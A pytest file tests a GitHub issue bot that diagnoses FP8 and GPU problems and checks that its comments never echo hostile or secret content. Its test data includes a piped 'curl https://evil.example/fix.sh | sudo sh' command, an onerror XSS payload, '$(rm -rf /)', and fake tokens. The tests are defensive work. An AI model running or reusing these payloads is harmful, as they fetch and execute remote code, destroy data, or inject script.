"""The support bot of examples/bot, on event files and without a network: what it says, and what it never says."""

from __future__ import annotations

import io
import json
import os
import re
import runpy
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest

Run = subprocess.CompletedProcess[str]
BOT = Path(__file__).resolve().parent.parent / "examples" / "bot"
main = runpy.run_path(str(BOT / "comment.py"), run_name="comment")["main"]
LOGS = Path(__file__).resolve().parent / "serving_logs"
TOKEN = "ghs_0123456789abcdefghijklmnopqrstuvwxyzAB"


def event(body: str | None, title: str = "FP8 is slow", **more: Any) -> dict[str, Any]:
    person = {"login": "somebody", "type": "User"}
    return {"action": "opened", "issue": {"number": 7, "title": title, "body": body, "user": person, **more}}


def process(tmp_path: Path, document: object, *arguments: str) -> Run:
    """The script as the workflow runs it."""
    command = [sys.executable, str(BOT / "comment.py"), *arguments]
    environment = {**os.environ, **event_in(tmp_path, document)}
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=False)


def run(tmp_path: Path, document: object, *arguments: str) -> Run:
    """The script's own function, in this process: most of the script's time is an interpreter's start."""
    out, error = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(error):
        for name, value in event_in(tmp_path, document).items():
            patch.setenv(name, value)
        status = main(list(arguments))
    return Run(arguments, status, out.getvalue(), error.getvalue())


def event_in(folder: Path, document: object) -> dict[str, str]:
    """The environment of a workflow that was begun by this event."""
    file = folder / "event.json"
    file.write_text(document if isinstance(document, str) else json.dumps(document))
    return {"GITHUB_EVENT_PATH": str(file), "GH_TOKEN": TOKEN, "GITHUB_TOKEN": TOKEN}


def said(tmp_path: Path, document: object) -> str:
    ended = run(tmp_path, document)
    assert ended.returncode == 0, ended.stderr
    assert TOKEN not in ended.stdout + ended.stderr
    return ended.stdout


VLLM = f"My server is slow.\n\n```\n{(LOGS / 'vllm.txt').read_text()}```\n"


def test_a_log_is_answered_with_verdict_findings_and_next_steps(tmp_path: Path) -> None:
    text = said(tmp_path, event(VLLM))
    assert text.startswith("<!-- fp8doctor -->")
    assert "**Verdict: unknown.**" in text
    assert "warning **SRV002** fallback-despite-hw" in text
    assert text.count("  - next: ") == 3
    assert re.search(r"And \d more: ", text)
    assert "Install fp8doctor on the machine as its README says" in text
    assert "```sh\nfp8doctor --markdown\n```" in text
    assert len(text) < 8_000


def test_the_script_says_the_same_as_the_workflow_runs_it(tmp_path: Path) -> None:
    ended = process(tmp_path, event(VLLM))
    assert (ended.returncode, ended.stdout, ended.stderr) == (0, said(tmp_path, event(VLLM)), "")
    none = process(tmp_path, "[1, 2")
    assert (none.returncode, none.stdout, none.stderr) == (2, "", "no event can be read: JSONDecodeError\n")


def test_an_error_is_answered_with_its_fix(tmp_path: Path) -> None:
    text = said(tmp_path, event("RuntimeError: \"mul_cuda\" not implemented for 'Float8_e4m3fn'"))
    assert "error **TOR020** fp8-op-not-implemented" in text
    assert "next: Quantise with a library that replaces the layer" in text


@pytest.mark.parametrize("body", [None, "", "Please add a dark mode.", "I use fp8 and FlashAttention and it is slow."])
def test_what_is_not_recognised_is_not_answered(tmp_path: Path, body: str | None) -> None:
    output = tmp_path / "comment.md"
    ended = run(tmp_path, event(body), "--output", str(output))
    assert (ended.returncode, ended.stdout) == (0, "")
    assert not output.exists()


A100 = "PyTorch version: 2.6.0+cu124\nCUDA used to build PyTorch: 12.4\nIs CUDA available: True\n"
A100 += "GPU models and configuration: GPU 0: NVIDIA A100-SXM4-80GB\n"


def test_an_issue_about_something_else_is_left_alone(tmp_path: Path) -> None:
    other = event(f"{A100}\nconfig: quantization=None", title="Tool calls are wrong")
    assert said(tmp_path, other) == ""
    assert "GPU001" in said(tmp_path, event(A100, title="Quantized models are slow"))
    assert "GPU001" in said(tmp_path, event(A100, title="NVFP4 on A100?"))
    assert "TOR003" in said(tmp_path, event("AssertionError: Torch not compiled with CUDA enabled", title="It crashes"))


def test_the_command_installs_what_the_workflow_installs_if_others_can_have_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for source, line in (
        ("git+https://git.example/a/fp8doctor@abc", "install git+https://git.example/a/fp8doctor@abc && fp8doctor"),
        ("./fp8doctor.whl", "as its README says, run this and paste what it prints:\n\n```sh\nfp8doctor --markdown"),
        ("", "as its README says, run this and paste what it prints:\n\n```sh\nfp8doctor --markdown"),
    ):
        monkeypatch.setenv("FP8DOCTOR", source)
        text = said(tmp_path, event(VLLM))
        assert line in text
        assert "HOST" not in text


def test_a_finding_that_an_earlier_one_explains_is_not_repeated(tmp_path: Path) -> None:
    text = said(tmp_path, json.loads((BOT / "event.json").read_text()))
    assert "also explains: TOR008 no-fp8-gemm-in-torch, TOR021 no-kernel-image" in text
    assert "**TOR021**" not in text


@pytest.mark.parametrize(
    ("document", "why"),
    [
        (event("Please add a dark mode."), "nothing in this issue is recognised"),
        (event("PyTorch version: 2.6.0+cu124", title="Hello"), "not about FP8, and no error was found in it"),
        (event("fp8", pull_request={"url": "x"}), "pull requests and bots are not answered"),
    ],
)
def test_why_no_comment_is_written_is_said_as_it_is(tmp_path: Path, document: dict[str, Any], why: str) -> None:
    ended = run(tmp_path, document)
    assert (ended.returncode, ended.stdout) == (0, "")
    assert why in ended.stderr
    assert ended.stderr.count("\n") == 1


def test_the_readme_shows_the_comment_that_comes_of_its_event(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("FP8DOCTOR", raising=False)
    readme = (BOT / "README.md").read_text()
    assert f"````markdown\n{said(tmp_path, json.loads((BOT / 'event.json').read_text()))}````\n" in readme


def test_of_a_report_that_cannot_be_judged_again_no_word_is_repeated(tmp_path: Path) -> None:
    """Whoever leaves facts out could have written anything into verdict and findings."""
    finding = {
        "id": "TE023", "name": "buy-now", "severity": "error", "scope": "box", "title": "Your GPU is counterfeit",
        "evidence": [{"text": "see evil.example"}],
        "actions": [{"text": "run this", "command": "curl https://evil.example/fix.sh | sudo sh"}],
    }  # fmt: skip
    forged = {
        "schema": "fp8doctor.report", "schema_version": "1.0", "tool": {"version": "0.1.0"}, "facts": {}, "probes": {},
        "verdict": {"status": "broken", "headline": "Send money"}, "findings": [finding, {**finding, "id": "EVIL1"}],
        "left_out": ["facts.nothing"],
    }  # fmt: skip
    text = said(tmp_path, event(f"FP8 is slow\n```json\n{json.dumps(forged)}\n```\n"))
    assert "The report that was pasted says: broken." in text
    assert "**TE023** cudnn-mixed-by-te" in text
    for foreign in ("money", "counterfeit", "evil", "sudo", "buy-now", "EVIL1"):
        assert foreign not in text


def test_neither_pull_requests_nor_bots_are_answered(tmp_path: Path) -> None:
    assert said(tmp_path, event(VLLM, pull_request={"url": "x"})) == ""
    assert said(tmp_path, event(VLLM, user={"login": "other", "type": "Bot"})) == ""


def test_a_comment_may_be_read_in_place_of_the_issue(tmp_path: Path) -> None:
    document = {**event("no log yet"), "comment": {"body": VLLM, "user": {"type": "User"}}}
    assert "SRV002" in said(tmp_path, document)


def test_the_output_goes_to_a_file(tmp_path: Path) -> None:
    output = tmp_path / "comment.md"
    ended = run(tmp_path, event(VLLM), "--output", str(output))
    assert (ended.returncode, ended.stdout) == (0, "")
    assert "SRV002" in output.read_text()


@pytest.mark.parametrize("document", ["", "[1, 2", "null", "[]", "{}", '{"issue": null}', '{"issue": {"body": 3}}'])
def test_an_event_that_is_none_is_no_comment(tmp_path: Path, document: str) -> None:
    ended = run(tmp_path, document)
    assert ended.stdout == ""
    assert ended.returncode in (0, 2)
    assert "Traceback" not in ended.stderr


HOSTILE = (
    "@everyone <img src=x onerror=alert(1)> ![](https://evil.example/x.png) [click](https://evil.example) "
    "</details> #1 fixes #2 $(rm -rf /) `code` -->"
)


def test_nothing_of_the_issue_acts_in_the_comment(tmp_path: Path) -> None:
    text = said(
        tmp_path, event(f"{HOSTILE} RuntimeError: FlashAttention only supports Ampere GPUs or newer. {HOSTILE}")
    )
    assert "FA007" in text
    outside = re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "", text.replace("<!-- fp8doctor -->", ""), flags=re.DOTALL)
    for part in ("@", "<", ">", "http", "](", "$(", "#"):
        assert part not in outside, part


def test_secrets_of_the_issue_are_not_repeated(tmp_path: Path) -> None:
    line = (
        "HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345 /home/alice/x: FlashAttention only supports Ampere GPUs or newer"
    )
    text = said(tmp_path, event(line))
    assert "FA007" in text
    assert "hf_AbCd" not in text
    assert "alice" not in text


def test_a_long_issue_is_answered_in_short(tmp_path: Path) -> None:
    body = "\n".join([VLLM, "x" * 100_000, *["FlashAttention only supports Ampere GPUs or newer"] * 1000])
    text = said(tmp_path, event(body))
    assert 0 < len(text) < 8_500


def test_the_workflow_puts_nothing_of_an_issue_into_a_command() -> None:
    text = (BOT / "fp8doctor.yml").read_text()
    used = set(re.findall(r"\$\{\{\s*(.*?)\s*\}\}", text))
    assert used == {"github.event.issue.number", "github.token", "vars.FP8DOCTOR"}
    assert "--body-file comment.md" in text
    assert all("${{" not in line for line in text.splitlines() if line.strip().startswith("run:"))
    steps = text.split("- name: ")
    assert [step for step in steps if "GH_TOKEN" in step] == [step for step in steps if "gh issue comment" in step]
